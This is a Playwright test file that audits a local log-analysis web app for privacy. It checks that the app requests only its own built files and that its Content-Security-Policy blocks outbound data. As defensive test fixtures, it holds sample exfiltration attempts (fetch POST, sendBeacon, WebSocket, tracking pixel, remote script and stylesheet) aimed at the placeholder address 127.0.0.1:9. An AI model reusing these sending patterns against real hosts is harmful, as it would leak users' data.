/**
 * Issue 6: the data never leaves the page. Every request the page, its
 * worker and the service worker make during real use must be a GET for one
 * of the built app's own files, and the Content-Security-Policy must refuse
 * anything else, in the page and in the worker alike.
 */
import { existsSync, readdirSync } from 'node:fs';
import { relative, resolve } from 'node:path';
import type { BrowserContext, Page, Worker } from '@playwright/test';
import { expect, syntheticLog, test } from './fixtures';

// e2e is typechecked with Node's lib, not the DOM's: these globals exist only inside the browser callbacks.
declare const window: any, document: any, self: any, navigator: any, Image: any;
interface ViolationEvent {
  effectiveDirective: string;
  blockedURI: string;
}

/** The build the preview server serves; E2E_DIST points elsewhere when a second build is tested side by side. */
const DIST = resolve(process.env.E2E_DIST ?? 'dist');
const GENEROUS = { timeout: 90_000 };

/** URL paths of the files `npm run build` wrote: the only things the app may fetch. */
function builtPaths(): Set<string> {
  expect(existsSync(DIST), 'run `npm run build` before the e2e tests').toBe(true);
  const files = readdirSync(DIST, { recursive: true, withFileTypes: true }).filter((d) => d.isFile());
  const paths = new Set(['/']);
  for (const file of files) paths.add('/' + relative(DIST, resolve(file.parentPath, file.name)).split('\\').join('/'));
  return paths;
}

interface Seen {
  method: string;
  url: string;
  by: string;
}

/** Records every request of the context (pages, dedicated workers, the service worker) and CSP violations. */
class PrivacyAudit {
  readonly requests: Seen[] = [];
  readonly consoleViolations: string[] = [];
  private readonly workers: Worker[] = [];

  constructor(
    context: BrowserContext,
    private readonly origin: string,
  ) {
    context.on('request', (request) => {
      const by = request.serviceWorker() ? 'service worker' : (request.frame()?.url() ?? 'worker');
      this.requests.push({ method: request.method(), url: request.url(), by });
    });
  }

  static async start(context: BrowserContext, page: Page, origin: string): Promise<PrivacyAudit> {
    const audit = new PrivacyAudit(context, origin);
    // Before any app script runs, so a violation during start-up is caught too.
    await context.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
      document.addEventListener('securitypolicyviolation', (e: ViolationEvent) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    });
    page.on('console', (message) => {
      if (/Content Security Policy/i.test(message.text())) audit.consoleViolations.push(message.text());
    });
    page.on('worker', (worker) => {
      audit.workers.push(worker);
      // The worker's own violations fire in its own global scope, invisible to the page.
      void worker
        .evaluate(() => {
          const scope = self as unknown as { __cspViolations?: string[] } & typeof globalThis;
          if (scope.__cspViolations) return;
          const seen: string[] = [];
          scope.__cspViolations = seen;
          self.addEventListener('securitypolicyviolation', (e: ViolationEvent) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
        })
        .catch(() => {});
    });
    return audit;
  }

  /** Requests that are not a GET of one of the app's own built files. */
  offenders(allowed: Set<string>): Seen[] {
    return this.requests.filter(({ method, url }) => {
      const u = new URL(url);
      // Reading a picked file or a generated download stays inside the browser.
      if ((u.protocol === 'blob:' && url.startsWith(`blob:${this.origin}/`)) || u.protocol === 'data:') return false;
      return !(method === 'GET' && u.origin === this.origin && allowed.has(u.pathname));
    });
  }

  async violations(page: Page): Promise<string[]> {
    const inPage = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
    const inWorkers: string[] = [];
    for (const worker of this.workers) {
      const seen = await worker
        .evaluate(() => (self as unknown as { __cspViolations?: string[] }).__cspViolations ?? [])
        .catch(() => [] as string[]);
      inWorkers.push(...seen.map((v) => `worker: ${v}`));
    }
    return [...inPage, ...inWorkers, ...this.consoleViolations];
  }
}

/**
 * A short training run on WebAssembly: the regression for one epoch, so the wasm binaries load and a model trains
 * (run.spec.ts trains the LSTMs; doing it again here would only add minutes).
 */
async function runOneEpoch(page: Page): Promise<void> {
  await page.getByTestId('setting-model-lstm').uncheck();
  await page.getByTestId('setting-model-attention').uncheck();
  await page.getByTestId('setting-epochs-logreg').fill('1');
  await page.getByTestId('setting-backend').selectOption('wasm');
  await page.getByTestId('run').click();
  await expect(page.getByTestId('status')).toHaveAttribute('data-state', 'done', { timeout: 240_000 });
  await expect(page.getByTestId('backend-in-use')).toHaveAttribute('data-backend', 'wasm');
}

test('loading, training, exporting and dropping a log request nothing but the app\'s own files', async ({ page, context, baseURL }) => {
  test.setTimeout(360_000);
  const origin = new URL(baseURL!).origin;
  const audit = await PrivacyAudit.start(context, page, origin);
  const allowed = builtPaths();

  await page.goto('/');
  await page.getByTestId('load-demo').click();
  await expect(page.getByTestId('summary')).toBeVisible(GENEROUS);
  await runOneEpoch(page);
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-weights').click()]);
  expect(download.suggestedFilename()).toMatch(/\.json$/);

  const { text } = syntheticLog({ seed: 3, users: 60, campaigns: 5 });
  await page.getByTestId('drop-zone').drop({ files: { name: 'dropped.tsv', mimeType: 'text/plain', buffer: Buffer.from(text) } });
  await expect(page.getByTestId('summary')).toContainText('dropped.tsv', GENEROUS);

  // Let the service worker finish precaching, so its requests are judged too.
  await page.evaluate(async () => {
    await navigator.serviceWorker?.ready;
  });

  const paths = audit.requests.map((r) => new URL(r.url).pathname);
  expect(paths.some((p) => p.endsWith('.wasm')), 'the recorder saw the worker fetch the wasm binaries').toBe(true);
  expect(audit.offenders(allowed)).toEqual([]);
  expect(await audit.violations(page)).toEqual([]);
});

test('the policy reaches the page and the worker, and names only the page\'s own origin', async ({ page, request }) => {
  const documentResponse = await page.goto('/');
  const headerPolicy = (await documentResponse!.allHeaders())['content-security-policy'] ?? '';
  const metaPolicy = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
  await page.getByTestId('load-demo').click();
  await expect(page.getByTestId('summary')).toBeVisible(GENEROUS);
  const [worker] = page.workers();
  expect(worker, 'the app runs its work in a dedicated worker').toBeDefined();
  // A dedicated worker takes its policy from its own script's response, not from the page.
  const workerResponse = await request.get(worker.url());
  const workerPolicy = workerResponse.headers()['content-security-policy'] ?? '';

  for (const policy of [headerPolicy, metaPolicy, workerPolicy]) {
    expect(policy).toContain("default-src 'self'");
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
    // No other origin appears anywhere: only keywords and the blob:/data: schemes.
    expect(policy).not.toMatch(/https?:|wss?:|\*/);
  }
});

/** Ways a script could try to send data out; each must be refused by the policy with a violation. */
const LEAKS: { how: string; directive: string; attempt: () => void }[] = [
  { how: 'fetch POST', directive: 'connect-src', attempt: () => void fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'journeys' }).catch(() => {}) },
  { how: 'sendBeacon', directive: 'connect-src', attempt: () => void navigator.sendBeacon('http://127.0.0.1:9/beacon', 'journeys') },
  { how: 'WebSocket', directive: 'connect-src', attempt: () => void new WebSocket('ws://127.0.0.1:9/') },
  { how: 'tracking pixel', directive: 'img-src', attempt: () => void document.body.appendChild(Object.assign(new Image(), { src: 'http://127.0.0.1:9/p.gif' })) },
  {
    how: 'remote script',
    directive: 'script-src-elem',
    attempt: () => void document.head.appendChild(Object.assign(document.createElement('script'), { src: 'http://127.0.0.1:9/x.js' })),
  },
  {
    how: 'remote stylesheet',
    directive: 'style-src-elem',
    attempt: () => void document.head.appendChild(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://127.0.0.1:9/x.css' })),
  },
];

test.describe('the policy refuses data on its way out of the page', () => {
  for (const leak of LEAKS) {
    test(leak.how, async ({ page, context, baseURL }) => {
      const audit = await PrivacyAudit.start(context, page, new URL(baseURL!).origin);
      await page.goto('/');

      // Playwright runs this through DevTools, which the policy does not govern; what the code then tries to load, it does.
      await page.evaluate(leak.attempt);

      await expect
        .poll(() => audit.violations(page))
        .toContainEqual(expect.stringMatching(new RegExp(`^${leak.directive} (ws|http)://127\\.0\\.0\\.1:9`)));
    });
  }
});

test('the policy refuses a connection from inside the worker', async ({ page, context, baseURL }) => {
  await PrivacyAudit.start(context, page, new URL(baseURL!).origin);
  await page.goto('/');
  await page.getByTestId('load-demo').click();
  await expect(page.getByTestId('summary')).toBeVisible(GENEROUS);
  const [worker] = page.workers();

  const outcome = await worker.evaluate(async () => {
    const seen: string[] = [];
    self.addEventListener('securitypolicyviolation', (e: ViolationEvent) => seen.push(e.effectiveDirective));
    let sent = false;
    try {
      await fetch('http://127.0.0.1:9/collect', { method: 'POST', body: 'journeys' });
      sent = true;
    } catch {
      // Refused, as it should be; the violation event says why.
    }
    await new Promise((r) => setTimeout(r, 100));
    return { sent, seen };
  });

  expect(outcome).toEqual({ sent: false, seen: ['connect-src'] });
});
